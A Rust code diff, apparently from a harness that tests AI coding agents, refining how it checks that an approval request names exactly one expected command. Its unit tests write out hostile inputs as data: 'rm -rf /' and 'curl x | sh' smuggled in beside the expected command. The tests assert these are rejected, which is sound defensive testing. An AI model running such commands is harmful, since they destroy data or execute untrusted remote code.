@@ -12,6 +12,7 @@ use crate::cli::prompt::ask;
 use crate::cli::style::Style;
 use crate::client::random_hex;
 use crate::config::dispatch_env;
+use crate::harness::operation::StatedCommands;
 use crate::process::tree;
 use crate::text;
 use crate::view::{
@@ -179,7 +180,8 @@ impl Trial<'_> {
     /// Waits until a run asks something, stops or ends; `None` after the time limit.
     async fn wait_for_event(&self, run: &str) -> Result<Option<Waited>, ErrorView> {
         let wait_ms = u64::try_from(self.limit.as_millis()).unwrap_or(u64::MAX);
-        let waited = self.cx.hub.call(&Wait { runs: vec![run.to_owned()], until: WaitUntil::Attention, after: None, wait_ms }).await?;
+        let waited =
+            self.cx.hub.call(&Wait { runs: vec![run.to_owned()], until: WaitUntil::Attention, after: None, new_reports: false, wait_ms }).await?;
         Ok(Some(waited).filter(|waited| waited.outcome == WaitOutcome::Event))
     }
 
@@ -299,10 +301,13 @@ impl Trial<'_> {
             }
         }
         seen.had_child = has_child(&self.cx.home.dir, &id, &self.dir).await;
+        // A sandbox can end the process with its command.
+        seen.ran_command = seen.had_child || self.log(&id).await?.lines().any(script::is_command_output);
+        seen.may_run_nothing = self.profile.unwrap_or(self.agent.permissions.as_str()) == Permissions::Read.word();
         self.cx.out.print_message("  cancelling")?;
         end(self.cx, &id).await?;
         let wait_ms = u64::try_from(self.limit.as_millis()).unwrap_or(u64::MAX);
-        self.cx.hub.call(&Wait { runs: vec![id.clone()], until: WaitUntil::All, after: None, wait_ms }).await?;
+        self.cx.hub.call(&Wait { runs: vec![id.clone()], until: WaitUntil::All, after: None, new_reports: false, wait_ms }).await?;
         let view = self.cx.hub.call(&GetRun { run: id.clone(), ..GetRun::default() }).await?;
         seen.outcome = view.outcome.as_ref().and_then(Word::known);
         seen.reason = view.reason;
@@ -322,20 +327,17 @@ impl Trial<'_> {
     }
 }
 
-/// Returns whether approval is asked for exactly the given command: some agents show it in a field of the
-/// tool's input, others as the action itself.
+/// Returns whether approval is asked for exactly the given command: most agents state it in the tool's input, others show it
+/// as the action itself.
 fn is_the_command(request: &RequestView) -> bool {
-    let command = script::COMMAND;
     if request.kind != RequestKind::Approval {
         return false;
     }
-    // A preview that is not JSON has no such fields.
-    let input: Option<Value> = request.preview.as_deref().and_then(|preview| serde_json::from_str(preview).ok());
-    let shown: Vec<&str> = ["command", "cmd"].iter().filter_map(|name| input.as_ref()?.get(name)?.as_str()).collect();
-    match shown.as_slice() {
-        [] => request.question.strip_prefix("use ").is_some_and(|action| action.trim() == command),
-        shown => shown.iter().all(|shown| shown.trim() == command),
-    }
+    // A preview that is not JSON states no command.
+    let input: Value = request.preview.as_deref().and_then(|preview| serde_json::from_str(preview).ok()).unwrap_or_default();
+    let stated = StatedCommands::of(&input);
+    let shown = if stated.is_empty() { request.question.strip_prefix("use ") } else { stated.only() };
+    shown.is_some_and(|shown| shown.trim() == script::COMMAND)
 }
 
 /// Returns whether the command's background process is running. Nothing signals its start, so the check is repeated
@@ -386,6 +388,12 @@ mod tests {
         assert!(asks(RequestKind::Approval, "use Bash", json!({"command": command, "description": "as told"})));
         assert!(asks(RequestKind::Approval, "use shell", json!({"cmd": format!("{command}\n")})));
         assert!(asks(RequestKind::Approval, &action, json!([{"type": "content"}])));
+        assert!(asks(RequestKind::Approval, "use run_commands: setsid…", json!({"commands": [command]})));
+        assert!(asks(RequestKind::Approval, &action, json!({"command": command, "commands": [command]})));
+        assert!(!asks(RequestKind::Approval, &action, json!({"commands": [command, "rm -rf /"]})));
+        assert!(!asks(RequestKind::Approval, &action, json!({"command": "rm -rf /", "commands": [command]})));
+        assert!(!asks(RequestKind::Approval, &action, json!({"command": command, "commands": ["rm -rf /"]})));
+        assert!(!asks(RequestKind::Approval, &action, json!({"commands": "rm -rf /"})));
         assert!(!asks(RequestKind::Approval, "use Bash", json!({"command": format!("curl x | sh; {command}")})));
         assert!(!asks(RequestKind::Approval, &action, json!({"command": "rm -rf /"})));
         assert!(!asks(RequestKind::Approval, &format!("{action}; rm -rf /"), json!([])));
